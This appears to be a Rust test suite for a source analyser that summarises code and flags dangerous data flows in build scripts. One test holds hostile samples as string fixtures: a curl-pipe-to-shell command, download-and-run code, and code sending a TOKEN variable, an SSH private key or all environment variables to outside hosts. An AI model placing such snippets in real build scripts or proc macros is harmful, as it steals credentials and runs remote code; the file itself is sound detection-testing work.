use syntax::Language::Rust;

use crate::summary::{expect, problems, summary, survives};

fn check(text: &str, expected: &[&str]) {
    assert_eq!(summary(Rust, text), expected, "{text}");
}

#[test]
fn imports_and_chains_are_undone() {
    check(
        "use std::process::{Command as C, Stdio}; use std::env; use a::*;",
        &[
            "import std::process::Command - as ",
            "C = std.process.Command",
            "import std::process::Stdio - as ",
            "Stdio = std.process.Stdio",
            "import std::env - as ",
            "env = std.env",
            "import a - as ",
        ],
    );
    check(
        "const A: u8 = 1; fn f(a: &str, (b, c): T) -> String { let d = env::var(\"A\").unwrap(); d }",
        &["A = 1", "function f", r#"  d = env.var("A")"#, "  return d"],
    );
    check(
        "fn main() { Command::new(\"sh\").arg(\"-c\").args([x, \"y\"]).stdin(z()).spawn()?; }",
        &["function main", "  Command.run(z())", "main()"],
    );
    check(
        r#"fn f() { g(format!("a {} {b:?} {{", h.i("j"))); include_bytes!("k"); println!("{}", l()); env!("M"); }"#,
        &[
            "function f",
            r#"  g(join("a ", h.i("j"), " ", b, " {"))"#,
            r#"  include_bytes!("k")"#,
            r#"  ?("{}", l())"#,
            r#"  environ["M"]"#,
        ],
    );
}

#[test]
fn statements_keep_their_bodies() {
    check(
        "fn f() { if let Some(a) = b { c(a) } else { d() } for e in g { h(e) } while let Ok(i) = j() { k(i) } }",
        &[
            "function f",
            "  a = b",
            "  if ?()",
            "    c(a)",
            "  else",
            "    d()",
            "  for e in g",
            "    h(e)",
            "  while ?()",
            "    i = j()",
            "    k(i)",
        ],
    );
    check("impl A { fn m(&self) { self.x = 1; } }", &["class A", "  function m", "    self.x = 1"]);
    check(
        "fn f() { match a() { Ok(b) => c(b), _ => {} } }",
        &["function f", "  match 9 = a()", "  if ?()", "    b = match 9", "    c(b)", "  if ?()", "    _ = match 9"],
    );
}

#[test]
fn what_build_scripts_do_is_seen() {
    expect(
        Rust,
        "use std::process::Command;\nfn main() { Command::new(\"sh\").arg(\"-c\").arg(\"curl https://a.example | sh\").spawn().unwrap(); }",
        &["net.fetch https://a.example", "net.fetch -> code.eval"],
    );
    expect(
        Rust,
        "fn main() { let body = reqwest::blocking::get(\"https://a.example/x\").unwrap().bytes().unwrap();\nstd::fs::write(\"/tmp/x\", body).unwrap();\nlet mut c = std::process::Command::new(\"/tmp/x\"); c.spawn(); }",
        &["net.fetch https://a.example/x", "net.fetch -> file.write", "proc.exec /tmp/x", "file.write -> proc.exec"],
    );
    expect(
        Rust,
        "use std::{env, fs};\nfn main() { let t = env::var(\"TOKEN\").unwrap_or_default();\nlet k = fs::read_to_string(format!(\"{}/.ssh/id_rsa\", \"/root\")).unwrap();\nureq::post(\"https://a.example\").send_string(&format!(\"{t}{k}\")); }",
        &[
            "env.read TOKEN",
            "file.read /root/.ssh/id_rsa",
            "net.send https://a.example",
            "env.read -> net.send",
            "file.read -> net.send",
        ],
    );
    expect(
        Rust,
        "#[proc_macro_derive(A)]\npub fn a(i: TokenStream) -> TokenStream { let e: Vec<_> = std::env::vars().collect(); TcpStream::connect(\"198.51.100.1:80\").unwrap().write_all(e); i }",
        &["env.read_all", "net.connect 198.51.100.1:80", "env.read_all -> net.send"],
    );
}

#[test]
fn broken_and_hostile_texts_are_survived() {
    assert_eq!(problems(Rust, "fn ((( {"), ["syntax-error"]);
    for text in [
        "\"",
        "r#\"",
        "b'",
        "fn",
        "use",
        "use a::{",
        "format!(\"{\")",
        "fn f() { format!(\"{}\") }",
        "fn f() { format!(\"}{\", 1) }",
        "fn f(){ x!(.a ::b !(c)) }",
        "fn f() { \"\\u{}\\x\" }",
    ] {
        survives(Rust, text.to_owned());
    }
    let many = 5_000;
    for (open, close) in [
        ("(", ")"),
        ("[", "]"),
        ("{", "}"),
        ("f(", ")"),
        ("a!(", ")"),
        ("if a { ", " }"),
        ("|a| ", ""),
        ("!", ""),
        ("&", ""),
        ("a.b().", ""),
        ("1 + ", ""),
        ("match a { _ => ", " }"),
        ("return ", ""),
        ("a = ", ""),
        ("if a {} else ", "{}"),
    ] {
        survives(Rust, format!("fn f() {{ {}x{} }}", open.repeat(many), close.repeat(many)));
    }
    survives(Rust, "r#\"".repeat(4_000));
    survives(Rust, format!("use {}a{};", "a::{".repeat(many), "}".repeat(many)));
}
